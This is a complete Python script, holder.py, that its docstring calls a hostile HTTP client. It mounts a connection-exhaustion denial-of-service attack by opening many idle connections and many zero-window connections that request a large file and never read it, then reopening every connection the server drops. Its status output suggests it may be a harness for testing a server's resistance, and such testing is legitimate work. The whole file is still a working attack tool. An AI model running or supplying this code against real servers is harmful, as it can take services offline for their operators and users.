#!/usr/bin/env python3
"""holder.py: a hostile HTTP client that opens many connections and
holds them. Usage: holder.py SERVER PORT SOURCE IDLE ZERO PATH ATTACK_S

IDLE connections send nothing; ZERO connections ask for PATH (a large
file) with a tiny receive buffer and never read, so the server's send
side fills and the window stays zero. All connect at once from the
address SOURCE (non-blocking, bounded by CONNECT_S; REOPEN_S later). It prints
"connected N idle M zero" once the connects settle. For ATTACK_S
seconds it replaces every connection the server closes or resets; then
it prints "holding" and keeps the rest open, silent, reading nothing,
until it is killed or HOLD_S passes. Every second it prints "closed K
held N" (K: connections the server ended so far).
"""
import errno
import selectors
import socket
import sys
import time

CONNECT_S = 30
REOPEN_S = 5
HOLD_S = 600
RCVBUF = 256  # Linux rounds it up to its minimum, about 2 KiB
ENDED = (7, 8)  # TCP_CLOSE (reset), TCP_CLOSE_WAIT (FIN)


def open_one(server, port, source, zero):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if zero:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RCVBUF)
    s.bind((source, 0))
    s.setblocking(False)
    e = s.connect_ex((server, port))
    if e not in (0, errno.EINPROGRESS):
        s.close()
        return None
    return s


def settle(sel, pending, deadline):
    """Wait for the connects; returns the sockets that connected."""
    done = []
    while pending and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.5):
            s = key.fileobj
            sel.unregister(s)
            pending.discard(s)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                done.append(s)
            else:
                s.close()
    for s in pending:
        sel.unregister(s)
        s.close()
    return done


def ended(s):
    """The server closed or reset it (TCP_INFO's state byte)."""
    try:
        return s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] in ENDED
    except OSError:
        return True


def open_many(args, zero_n, idle_n, wait):
    """Connect zero_n + idle_n at once; the zero window ones ask for the
    file. Returns the connected sockets and which are zero window."""
    server, port, source, path = args
    sel = selectors.DefaultSelector()
    kinds = {}
    for i in range(zero_n + idle_n):
        s = open_one(server, port, source, i < zero_n)
        if s:
            kinds[s] = i < zero_n
            sel.register(s, selectors.EVENT_WRITE)
    held = settle(sel, set(kinds), time.monotonic() + wait)
    request = ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, server)).encode()
    for s in held:
        if kinds[s]:
            try:
                s.send(request)
            except OSError:
                pass
    return {s: kinds[s] for s in held}


def main():
    server, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    idle_n, zero_n, path = int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]
    attack_end = time.monotonic() + float(sys.argv[7])
    args = (server, port, source, path)
    held = open_many(args, zero_n, idle_n, CONNECT_S)
    idle = sum(1 for z in held.values() if not z)
    print("connected %d idle %d zero" % (idle, len(held) - idle), flush=True)
    closed = 0
    attacking = True
    end = time.monotonic() + HOLD_S
    while time.monotonic() < end:
        time.sleep(1)
        gone = [s for s in held if ended(s)]
        closed += len(gone)
        if attacking and gone:  # replace them, as a real attacker would
            zero = sum(1 for s in gone if held[s])
            for s in gone:
                del held[s]
                s.close()
            held.update(open_many(args, zero, len(gone) - zero, REOPEN_S))
        if attacking and time.monotonic() >= attack_end:
            attacking = False
            print("holding", flush=True)
        print("closed %d held %d" % (closed, len(held)), flush=True)


if __name__ == "__main__":
    main()
